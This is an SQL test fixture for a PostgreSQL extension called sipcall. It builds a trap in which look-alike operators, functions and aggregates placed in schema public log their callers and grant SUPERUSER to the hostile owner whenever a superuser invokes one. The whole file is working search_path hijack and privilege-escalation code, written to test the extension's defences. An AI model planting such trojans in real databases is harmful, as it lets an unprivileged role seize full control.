--
-- test/lookalikes.sql: the trap a hostile role sets in a database it owns,
-- shared by sql/security.sql and test/t/030_security.pl.
--
-- Run as that role, in a database whose schema public it owns.  In public
-- it plants look-alike operators, functions and aggregates for every type
-- sipcall compares; each records in public.lookalike_log the role it runs
-- as, and makes the owner of that log (the hostile role) a superuser when
-- it finds itself running as one.  The caller then puts public first on
-- the database's search_path.
--
-- the log of the look-alikes, and the one function they all call
CREATE TABLE public.lookalike_log (
    fn  text NOT NULL,
    who name NOT NULL,
    PRIMARY KEY (fn, who)
);
GRANT INSERT ON public.lookalike_log TO PUBLIC;

CREATE FUNCTION public.lookalike_note(fn text) RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
    INSERT INTO public.lookalike_log VALUES (fn, current_user)
        ON CONFLICT DO NOTHING;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r
         WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER',
            (SELECT t.tableowner FROM pg_catalog.pg_tables t
              WHERE t.schemaname OPERATOR(pg_catalog.=) 'public'
                AND t.tablename OPERATOR(pg_catalog.=) 'lookalike_log'));
    END IF;
    RETURN true;
END;
$$;

-- comparison operators, and + and -, for the types sipcall compares
DO $$
DECLARE
    pair text[];
    op   text;
    n    int := 0;
BEGIN
    FOREACH pair SLICE 1 IN ARRAY ARRAY[
        ['varchar', 'varchar'], ['varchar', 'text'], ['text', 'varchar'],
        ['text', 'text'], ['date', 'date'], ['timestamptz', 'timestamptz'],
        ['uuid', 'uuid'], ['int4', 'int4'], ['int8', 'int8'],
        ['int8', 'int4'], ['int4', 'int8'], ['numeric', 'numeric'],
        ['jsonb', 'jsonb'], ['xid', 'xid']]
    LOOP
        FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>=']
        LOOP
            CONTINUE WHEN pair[1] = 'xid' AND op NOT IN ('=', '<>');
            n := n + 1;
            EXECUTE format(
                'CREATE FUNCTION public.lookalike_op%s(a %s, b %s) RETURNS boolean'
                ' LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp'
                ' AS %L',
                n, pair[1], pair[2],
                format('SELECT public.lookalike_note(%L) AND (a OPERATOR(pg_catalog.%s) b)',
                       format('%s(%s,%s)', op, pair[1], pair[2]), op));
            EXECUTE format(
                'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s,'
                ' FUNCTION = public.lookalike_op%s)',
                op, pair[1], pair[2], n);
        END LOOP;
    END LOOP;
    FOREACH pair SLICE 1 IN ARRAY ARRAY[
        ['int4', 'int4', 'int4'], ['int8', 'int8', 'int8'],
        ['int8', 'int4', 'int8'], ['date', 'int4', 'date'],
        ['timestamptz', 'interval', 'timestamptz']]
    LOOP
        FOREACH op IN ARRAY ARRAY['+', '-']
        LOOP
            n := n + 1;
            EXECUTE format(
                'CREATE FUNCTION public.lookalike_op%s(a %s, b %s) RETURNS %s'
                ' LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp'
                ' AS %L',
                n, pair[1], pair[2], pair[3],
                format('SELECT CASE WHEN public.lookalike_note(%L) THEN a OPERATOR(pg_catalog.%s) b END',
                       format('%s(%s,%s)', op, pair[1], pair[2]), op));
            EXECUTE format(
                'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s,'
                ' FUNCTION = public.lookalike_op%s)',
                op, pair[1], pair[2], n);
        END LOOP;
    END LOOP;
END;
$$;

-- plain functions
DO $$
DECLARE
    f text[];
BEGIN
    FOREACH f SLICE 1 IN ARRAY ARRAY[
        ['now', '', 'timestamptz', 'pg_catalog.now()'],
        ['clock_timestamp', '', 'timestamptz', 'pg_catalog.clock_timestamp()'],
        ['lower', 'a text', 'text', 'pg_catalog.lower(a)'],
        ['upper', 'a text', 'text', 'pg_catalog.upper(a)'],
        ['round', 'a numeric', 'numeric', 'pg_catalog.round(a)'],
        ['date_trunc', 'a text, b timestamptz', 'timestamptz', 'pg_catalog.date_trunc(a, b)'],
        ['date_trunc', 'a text, b timestamptz, c text', 'timestamptz', 'pg_catalog.date_trunc(a, b, c)'],
        ['isfinite', 'a date', 'boolean', 'pg_catalog.isfinite(a)'],
        ['isfinite', 'a timestamptz', 'boolean', 'pg_catalog.isfinite(a)'],
        ['strpos', 'a text, b text', 'integer', 'pg_catalog.strpos(a, b)'],
        ['to_jsonb', 'a anyelement', 'jsonb', 'pg_catalog.to_jsonb(a)'],
        ['date_part', 'a text, b timestamp', 'double precision', 'pg_catalog.date_part(a, b)']]
    LOOP
        EXECUTE format(
            'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE sql VOLATILE'
            ' SET search_path = pg_catalog, pg_temp AS %L',
            f[1], f[2], f[3],
            format('SELECT CASE WHEN public.lookalike_note(%L) THEN %s END',
                   format('%s(%s)', f[1], f[2]), f[4]));
    END LOOP;
END;
$$;
CREATE FUNCTION public.unnest(a date[]) RETURNS SETOF date
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT d FROM pg_catalog.unnest(a) d WHERE public.lookalike_note('unnest(date[])') $$;

-- aggregates: count(*), count, max, min, sum, avg; the final function
-- records even a group of one row
CREATE FUNCTION public.lookalike_count(s int8) RETURNS int8
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('count(*)') THEN s + 1 END $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.lookalike_count, STYPE = int8, INITCOND = '0');
DO $$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['uuid', 'int4', 'varchar', 'text']
    LOOP
        EXECUTE format(
            'CREATE FUNCTION public.lookalike_count_%s(s int8, v %s) RETURNS int8'
            ' LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
            t, t, format('SELECT CASE WHEN public.lookalike_note(%L) THEN'
                         ' s + CASE WHEN v IS NULL THEN 0 ELSE 1 END END',
                         format('count(%s)', t)));
        EXECUTE format('CREATE AGGREGATE public.count(%s) (SFUNC = public.lookalike_count_%s,'
                       ' STYPE = int8, INITCOND = ''0'')', t, t);
    END LOOP;
    FOREACH t IN ARRAY ARRAY['timestamptz', 'int8', 'int4', 'date']
    LOOP
        EXECUTE format(
            'CREATE FUNCTION public.lookalike_larger_%s(s %s, v %s) RETURNS %s'
            ' LANGUAGE sql VOLATILE STRICT SET search_path = pg_catalog, pg_temp AS %L',
            t, t, t, t, format('SELECT CASE WHEN public.lookalike_note(%L) THEN'
                               ' CASE WHEN v > s THEN v ELSE s END END',
                               format('max(%s)', t)));
        EXECUTE format(
            'CREATE FUNCTION public.lookalike_smaller_%s(s %s, v %s) RETURNS %s'
            ' LANGUAGE sql VOLATILE STRICT SET search_path = pg_catalog, pg_temp AS %L',
            t, t, t, t, format('SELECT CASE WHEN public.lookalike_note(%L) THEN'
                               ' CASE WHEN v < s THEN v ELSE s END END',
                               format('min(%s)', t)));
        EXECUTE format(
            'CREATE FUNCTION public.lookalike_final_%s(s %s) RETURNS %s'
            ' LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp AS %L',
            t, t, t, format('SELECT CASE WHEN public.lookalike_note(%L) THEN s END',
                            format('max/min(%s)', t)));
        EXECUTE format('CREATE AGGREGATE public.max(%s) (SFUNC = public.lookalike_larger_%s,'
                       ' STYPE = %s, FINALFUNC = public.lookalike_final_%s)', t, t, t, t);
        EXECUTE format('CREATE AGGREGATE public.min(%s) (SFUNC = public.lookalike_smaller_%s,'
                       ' STYPE = %s, FINALFUNC = public.lookalike_final_%s)', t, t, t, t);
    END LOOP;
END;
$$;
CREATE FUNCTION public.lookalike_sum4(s int8, v int4) RETURNS int8
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('sum(int4)') THEN int4_sum(s, v) END $$;
CREATE FUNCTION public.lookalike_sum4_final(s int8) RETURNS int8
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('sum(int4)') THEN s END $$;
CREATE AGGREGATE public.sum(int4) (SFUNC = public.lookalike_sum4, STYPE = int8,
                                   FINALFUNC = public.lookalike_sum4_final);
CREATE FUNCTION public.lookalike_avg4(s int8[], v int4) RETURNS int8[]
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('avg(int4)') THEN int4_avg_accum(s, v) END $$;
CREATE FUNCTION public.lookalike_avg4_final(s int8[]) RETURNS numeric
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('avg(int4)') THEN int8_avg(s) END $$;
CREATE AGGREGATE public.avg(int4) (SFUNC = public.lookalike_avg4, STYPE = int8[],
                                   FINALFUNC = public.lookalike_avg4_final, INITCOND = '{0,0}');
CREATE FUNCTION public.lookalike_avgn(s numeric[], v numeric) RETURNS numeric[]
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('avg(numeric)') THEN
        CASE WHEN v IS NULL THEN s ELSE ARRAY[s[1] + v, s[2] + 1] END END $$;
CREATE FUNCTION public.lookalike_avgn_final(s numeric[]) RETURNS numeric
LANGUAGE sql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ SELECT CASE WHEN public.lookalike_note('avg(numeric)') AND s[2] > 0 THEN s[1] / s[2] END $$;
CREATE AGGREGATE public.avg(numeric) (SFUNC = public.lookalike_avgn, STYPE = numeric[],
                                      FINALFUNC = public.lookalike_avgn_final, INITCOND = '{0,0}');
